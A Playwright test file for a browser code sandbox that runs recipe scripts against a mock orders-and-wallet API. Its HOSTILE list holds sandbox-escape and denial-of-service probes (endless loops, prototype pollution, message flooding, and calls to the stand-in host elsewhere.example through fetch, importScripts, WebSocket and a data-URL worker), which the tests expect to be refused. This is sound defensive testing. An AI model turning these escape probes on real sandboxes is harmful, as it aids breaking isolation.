import type { Page } from "@playwright/test";
import { whatRecipesDo } from "../src/testing/what-recipes-do.ts";
import { built, html } from "./host.ts";
import { answering, expect, got, ORDER, posted, type Site, test } from "./site.ts";
import { test as inSurroundings } from "./surroundings.ts";

// Recipes wait for deliveries, and other workers' stories share the cores.
test.setTimeout(120_000);

const IDS = Object.keys(whatRecipesDo);

const run = (page: Page) => page.getByRole("button", { name: "Run", exact: true });
const stop = (page: Page) => page.getByRole("button", { name: "Stop", exact: true });
const output = (page: Page) => page.getByRole("log", { name: "Output" });
const happened = (page: Page) => page.getByRole("main");
const code = (page: Page) => page.getByRole("textbox", { name: /^Code: / });

/** Replaces the code by pasting: typed text would get the editor's indentation. */
async function enter(page: Page, text: string): Promise<void> {
  await code(page).press("ControlOrMeta+a");
  await code(page).evaluate((editor, pasted) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/plain", pasted);
    editor.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  }, text);
}

/** Runs every recipe, one after another. */
async function runEach(page: Page): Promise<void> {
  for (const id of IDS) {
    await page.evaluate((path) => {
      location.hash = path;
    }, `#/recipes/${id}`);
    await run(page).click();
    await expect(happened(page).getByText(/^Finished: \d+ calls? in /), id).toBeVisible({ timeout: 30_000 });
  }
}

/** What the wallet was charged for: each order with its charge, and the balance. */
async function chargedFor(page: Page) {
  const { json } = await got(page, "/v1/orders?limit=100");
  const orders = json.data.map(({ id, total }: { id: string; total: string }) => `${id} ${total}`);
  return { orders, balance: (await got(page, "/v1/wallet")).json.balance };
}

/** Opens the page of recipes with one text in the editor. */
async function openWith(page: Page, site: Site, text: string): Promise<void> {
  await page.goto(`${site.url}#/recipes`);
  await answering(page);
  await enter(page, text);
}

/** The calls in the output, as `whatRecipesDo` writes them, but for ids and for which message was lost. */
async function callsShown(page: Page): Promise<readonly string[]> {
  const rows = await output(page).locator("li:has(b)").allInnerTexts();
  const lines = rows.map((row) => {
    const [, call, status, mark] = /^(\w+ \S+)\s+(\d+|No response).*?\s*(replay)?\s*(?:Log)?$/s.exec(row) ?? [];
    return `${call}: ${status}${mark ? ", replayed" : ""}`.replace(/(ord|key)_\w+/g, "{id}");
  });
  return lines.filter((line, at) => !line.startsWith("GET") || line !== lines[at - 1]);
}

test("every recipe does in the worker what it does in Node @matrix", async ({ page, site }) => {
  for (const [id, { calls = [], last }] of Object.entries(whatRecipesDo)) {
    await page.goto("about:blank");
    await page.goto(`${site.url}?reset=1#/recipes/${id}`);
    await answering(page);
    await run(page).click();
    await expect(happened(page).getByText(/^Finished/), id).toBeVisible({ timeout: 30_000 });
    const expected = calls.map((call) =>
      call.replace(/\{\d\}/g, "{id}").replace(/: \d+, (request|response) lost/, ": No response"),
    );
    expect(await callsShown(page), id).toEqual(expected);
    const text = typeof last === "string" ? last : new RegExp(last.source.replaceAll(/2026[^$]*\$/g, ""));
    await expect(output(page).getByRole("listitem").last()).toHaveText(text);
  }
});

test("every recipe runs, and twice with the same seed charges for the same orders @matrix", async ({ page, site }) => {
  const url = `${site.url}?seed=7&deliver=1000#/recipes`;
  await page.goto(url);
  expect(await answering(page)).toBe("worker");
  await runEach(page);
  const first = await chargedFor(page);
  expect(first.orders.length).toBeGreaterThan(5);
  await page.goto("about:blank");
  await page.goto(url.replace("?", "?reset=1&"));
  await answering(page);
  await runEach(page);
  expect(await chargedFor(page)).toEqual(first);
});

test("every recipe runs in a page without a service worker, and without a network @matrix", async ({
  page,
  site,
  context,
}) => {
  site.missing.add("/sandbox-worker.js");
  await page.goto(`${site.url}?deliver=1000#/recipes`);
  expect(await answering(page)).toBe("page");
  await run(page).waitFor();
  await code(page).waitFor();
  await context.setOffline(true);
  await runEach(page);
});

test("a run shows each call with its receipt and its entry in the Log, what it prints, and how it ended", async ({
  page,
  site,
}) => {
  await openWith(
    page,
    site,
    `const { BASE_URL, API_KEY } = process.env;
const headers = { Authorization: \`Bearer \${API_KEY}\`, "Content-Type": "application/json" };
const body = ${JSON.stringify(JSON.stringify(ORDER))};
globalThis.sandbox?.loseNext("response");
await fetch(BASE_URL + "/v1/orders", { method: "POST", headers, body }).catch(String);
const response = await fetch(BASE_URL + "/v1/orders", { method: "POST", headers, body });
console.log(response.status, API_KEY, "<b>text</b>");
throw new Error("on line eight");`,
  );
  await run(page).click();
  await expect(happened(page).getByText("Ended by an error after 2 calls.")).toBeVisible();
  await expect(output(page).getByText("No response")).toBeVisible();
  await expect(output(page).getByText("201 Created")).toBeVisible();
  await expect(output(page).getByText("201 rsk_demo_...gRqf <b>text</b>")).toBeVisible();
  await expect(page.getByText("Ended by an error after 2 calls.").first()).toBeAttached();
  await output(page).getByRole("button", { name: "Go to line 8" }).click();
  await expect(code(page)).toBeFocused();
  // The record of the lost call as well.
  await expect(output(page).getByRole("button", { name: /in the Log$/ })).toHaveCount(2);
  await output(page)
    .getByRole("button", { name: /in the Log$/ })
    .first()
    .click();
  await expect(page.getByRole("dialog", { name: "Log" })).toBeVisible();
  expect((await got(page, "/v1/wallet")).json.balance).toBe("481.00");
});

const HOSTILE: readonly (readonly [what: string, code: string, ending: RegExp])[] = [
  ["a million lines", "for (let i = 0; i < 1e6; i++) console.log(i);", /^Finished/],
  ["a long text", 'console.log("x".repeat(1e8));', /^Finished/],
  ["an endless loop", "for (;;) {}", /^Stopped/],
  [
    "messages that evade the worker's own",
    `const native = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(self), "postMessage") ?? null;
const channel = new MessageChannel();
for (;;) (native?.value ?? channel.port1.postMessage.bind(channel.port1)).call(self, "x".repeat(1e5));`,
    /^Stopped/,
  ],
  ["calls without an end", 'for (;;) fetch(process.env.BASE_URL + "/v1/wallet");', /^Stopped/],
  [
    "a polluted prototype",
    'Object.prototype.kind = "done"; Array.prototype.map = () => { throw 1 }; console.log("still here");',
    /^(Finished|Ended)/,
  ],
  [
    "the network",
    `const tries = [
  () => fetch("https://elsewhere.example/"),
  () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, process.env.BASE_URL + "/v1/wallet"),
  async () => Object.getPrototypeOf(Object.getPrototypeOf(self)).importScripts.call(self, "https://elsewhere.example/x.js"),
  () => fetch(process.env.BASE_URL + "/index.html"),
  async () => importScripts("https://elsewhere.example/x.js"),
  async () => new WebSocket("wss://elsewhere.example/"),
  async () => new XMLHttpRequest(),
  async () => new Worker("data:text/javascript,fetch('https://elsewhere.example/')"),
  () => import("https://elsewhere.example/x.js"),
  () => import("data:text/javascript,export default 1"),
  async () => eval("1"),
  async () => { if (self.indexedDB) await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no; }); else throw 1; },
  async () => { await caches.keys(); },
  async () => { localStorage.x = 1; },
  async () => { postMessage(1); },
];
let refused = 0;
for (const each of tries) await each().catch(() => refused++);
console.log("refused " + refused + " of " + tries.length);
close();`,
    /^Finished/,
  ],
];

test("hostile code neither leaves the page nor makes it wait, and Stop works within a second", async ({
  page,
  site,
}) => {
  // The browser says what the frame's policy refuses.
  site.provoked = /Content Security Policy|blocked by CSP|violates/;
  await page.goto(`${site.url}#/recipes`);
  await answering(page);
  const before = await page.evaluate(() => localStorage.getItem("top-up-sandbox"));
  await page.evaluate(() => {
    const seen = { longest: 0 };
    Object.assign(window, { seen });
    new PerformanceObserver((list) => {
      for (const { duration } of list.getEntries()) seen.longest = Math.max(seen.longest, duration);
    }).observe({ type: "longtask" });
  });
  for (const [what, text, ending] of HOSTILE) {
    await enter(page, text);
    await run(page).click();
    if (/^\^Stopped/.test(ending.source)) await stop(page).click({ timeout: 1000 });
    await expect(happened(page).getByText(ending), what).toBeVisible({ timeout: 15_000 });
    await run(page).waitFor();
    if (what === "the network") await expect(output(page)).toContainText("refused 15 of 15");
  }
  expect(await page.evaluate(() => (window as unknown as { seen: { longest: number } }).seen.longest)).toBeLessThan(
    1000,
  );
  expect(await page.evaluate(() => localStorage.getItem("top-up-sandbox"))).toBe(before);
  expect((await posted(page, "/v1/orders", ORDER, "after")).status).toBe(201);
});

inSurroundings("every recipe runs in an embedded page @matrix", async ({ surroundings }) => {
  const { port } = await surroundings.host(built);
  const docs = await surroundings.host((path) =>
    html(
      `<!doctype html><iframe src="http://127.0.0.1:${port}/?embed=full&reset=1&deliver=1000#/recipes${path}" width="1000" height="900"></iframe>`,
    ),
  );
  const context = await surroundings.browser();
  const page = await context.newPage();
  for (const id of IDS) {
    await page.goto(`http://localhost:${docs.port}/${id}`);
    const frame = page.frameLocator("iframe");
    await frame.getByRole("button", { name: "Run", exact: true }).click();
    await expect(frame.getByText(/^Finished: \d+ calls? in /).first(), id).toBeVisible({ timeout: 30_000 });
  }
});

test("a run without an end is stopped after a minute, and the editor can be left by keyboard @matrix", async ({
  page,
  site,
}) => {
  await page.clock.install();
  await openWith(page, site, "for (;;) {}");
  await page.getByRole("button", { name: "Restore the original" }).focus();
  await page.keyboard.press("Tab");
  await expect(code(page)).toBeFocused();
  await expect(code(page)).toHaveAccessibleDescription("Tab leaves the editor.");
  await page.keyboard.press("Tab");
  await expect(output(page)).toBeFocused();
  await run(page).click();
  await stop(page).waitFor();
  await page.clock.fastForward(61_000);
  await expect(happened(page).getByText("Stopped after 60 s and no calls: a run may not take longer.")).toBeVisible();
});
